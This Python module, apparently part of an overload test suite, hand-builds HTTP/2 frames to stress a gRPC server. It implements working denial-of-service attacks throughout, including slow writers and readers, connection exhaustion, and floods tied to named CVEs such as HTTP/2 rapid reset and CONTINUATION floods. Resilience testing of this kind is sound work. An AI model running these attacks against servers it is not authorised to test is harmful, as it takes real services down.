"""Attacks below gRPC, by hand-made HTTP/2: what is slow, what never ends, what is never read."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
from collections.abc import AsyncIterator, Callable

from loadtests.http2 import (
    CALL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    RESET,
    SETTINGS,
    Windows,
    call,
    connected,
    frame,
    frames,
    message,
    opened,
    packed,
)
from loadtests.overload.callers import wish
from loadtests.overload.scene import CONNECTIONS, MIB
from loadtests.overload.tally import Tally, Target

_WIDE = 2**31 - 1
_UNSEEN = 50_000
"""Bytes that may be sent without a look at what the server says of its windows."""
_CANCELLED = (8).to_bytes(4)
"""The error code CANCEL (RFC 9113, section 7)."""
_GONE = (ConnectionError, asyncio.IncompleteReadError)


async def slow_writers(target: Target, tally: Tally) -> None:
    """Two thousand requests, each of which gets one more byte a second."""

    async def one() -> None:
        async with _obeying(target, tally) as (windows, to):
            streams = range(1, 200, 2)
            for stream in streams:
                _open(to, stream)
                await windows.send(stream, message(b"x" * 100, size=10 * MIB))
            while True:
                await asyncio.sleep(1.0)
                for stream in streams:
                    await windows.send(stream, b"x")

    await _many(one, 20, tally)


async def fat_writers(target: Target, tally: Tally) -> None:
    """Two hundred requests of 10 MB, sent but for the last bytes, which never come."""

    async def one() -> None:
        async with _obeying(target, tally) as (windows, to):

            async def send(stream: int) -> None:
                _open(to, stream)
                await windows.send(stream, message(b"x" * (10 * MIB - 100), size=10 * MIB))
                tally.counts["sent"] += 1

            await asyncio.gather(*(send(stream) for stream in range(1, 41, 2)))
            await asyncio.Event().wait()

    await _many(one, 10, tally)


async def slow_readers(target: Target, tally: Tally) -> None:
    """Answers of a megabyte each that nobody takes: the window stays shut."""
    await _unread(target, tally, window=0)


async def deaf_readers(target: Target, tally: Tally) -> None:
    """The same with the window wide open, and a socket that is not read."""
    await _unread(target, tally, window=_WIDE)


async def _unread(target: Target, tally: Tally, *, window: int) -> None:
    asked = wish(1_000_000)

    async def one() -> None:
        async with opened(target.address, window=window) as (reader, to):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            for stream in range(1, 2 * _UNSEEN // len(asked), 2):
                to.write(call(stream, asked))
                await to.drain()
                tally.counts["sent"] += 1
                await asyncio.sleep(0.02)

    await _many(one, 8, tally)


async def too_many(target: Target, tally: Tally) -> None:
    """More connections than there may be, which do nothing."""

    async def one() -> None:
        async with connected(target.address) as (reader, to):
            to.write(PREFACE + frame(SETTINGS))
            if not await reader.read(1):
                raise ConnectionError
            tally.counts["taken"] += 1
            while await reader.read(1 << 16):
                pass

    await _many(one, CONNECTIONS + 300, tally, again_s=2.0)


async def pings(target: Target, tally: Tally) -> None:
    """Pings whose answers nobody reads (CVE-2019-9512)."""
    await _repeat(target, tally, lambda _: frame(PING, 0, 0, bytes(8)) * 1000, 1000)


async def settings(target: Target, tally: Tally) -> None:
    """Settings whose acknowledgements nobody reads (CVE-2019-9515)."""
    await _repeat(target, tally, lambda _: frame(SETTINGS) * 1000, 1000)


async def empty(target: Target, tally: Tally) -> None:
    """A message in frames of no bytes (CVE-2019-9518)."""

    def more(number: int) -> bytes:
        head = call(1, b"x", size=1000) if number == 0 else b""
        return head + frame(DATA, 0, 1) * 1000

    await _repeat(target, tally, more, 1000)


async def continuations(target: Target, tally: Tally) -> None:
    """Headers that go on for ever (CVE-2024-27316)."""

    def more(number: int) -> bytes:
        head = frame(HEADERS, 0, 1, packed(CALL)) if number == 0 else b""
        return head + frame(CONTINUATION, 0, 1, packed([("x-more", "y" * 4000)])) * 100

    await _repeat(target, tally, more, 100)


async def headers(target: Target, tally: Tally) -> None:
    """Requests with a hundred kilobytes of metadata."""
    large = [*CALL, *((f"x-{number}", "y" * 1000) for number in range(15))]
    block = packed(large)

    def more(number: int) -> bytes:
        streams = range(1 + 40 * number, 41 + 40 * number, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream)
            for stream in streams
        )

    await _repeat(target, tally, more, 20)


async def resets(target: Target, tally: Tally) -> None:
    """Requests that are taken back in the same breath (CVE-2023-44487)."""
    begun = packed(CALL)

    def more(number: int) -> bytes:
        streams = range(1 + 200 * number, 201 + 200 * number, 2)
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, begun) + frame(RESET, 0, stream, _CANCELLED)
            for stream in streams
        )

    await _repeat(target, tally, more, 100)


async def _repeat(target: Target, tally: Tally, more: Callable[[int], bytes], each: int) -> None:
    """Send for as long as the connection lasts, on eight of them, and read nothing."""

    async def one() -> None:
        async with opened(target.address) as (reader, to):
            reader._transport.pause_reading()  # type: ignore[attr-defined]
            for number in itertools.count():
                to.write(more(number))
                async with asyncio.timeout(2.0):  # nothing more is taken: begin anew
                    await to.drain()
                tally.counts["sent"] += each

    await _many(one, 8, tally)


async def _many(
    one: Callable[[], object], connections: int, tally: Tally, *, again_s: float = 0.05
) -> None:
    """So many connections at a time, each begun anew when it has been ended."""

    async def ever() -> None:
        while True:
            with contextlib.suppress(*_GONE, TimeoutError):
                await one()  # type: ignore[misc]
            tally.counts["connections ended"] += 1
            await asyncio.sleep(again_s)

    async with asyncio.TaskGroup() as group:
        for _ in range(connections):
            group.create_task(ever())


def _open(to: asyncio.StreamWriter, stream: int) -> None:
    to.write(frame(HEADERS, END_HEADERS, stream, packed(CALL)))


@contextlib.asynccontextmanager
async def _obeying(
    target: Target, tally: Tally
) -> AsyncIterator[tuple[Windows, asyncio.StreamWriter]]:
    """A connection on which no more is sent than the server takes; ends when the server ends it."""
    async with opened(target.address) as connection:
        windows = Windows(connection)
        sending = asyncio.current_task()
        receiving = asyncio.ensure_future(_receive(connection[0], windows, tally))
        has_ended = False

        def stop(_: object) -> None:
            nonlocal has_ended
            has_ended = not receiving.cancelled()
            if has_ended and sending is not None:
                sending.cancel()

        receiving.add_done_callback(stop)
        try:
            yield windows, connection[1]
        except asyncio.CancelledError:
            if not has_ended:
                raise
            raise ConnectionError from None
        finally:
            receiving.cancel()


async def _receive(reader: asyncio.StreamReader, windows: Windows, tally: Tally) -> None:
    async for kind, flags, stream, body in frames(reader):
        windows.note(kind, flags, stream, body)
        tally.counts["calls ended"] += kind == RESET or (
            kind in (DATA, HEADERS) and bool(flags & END_STREAM)
        )
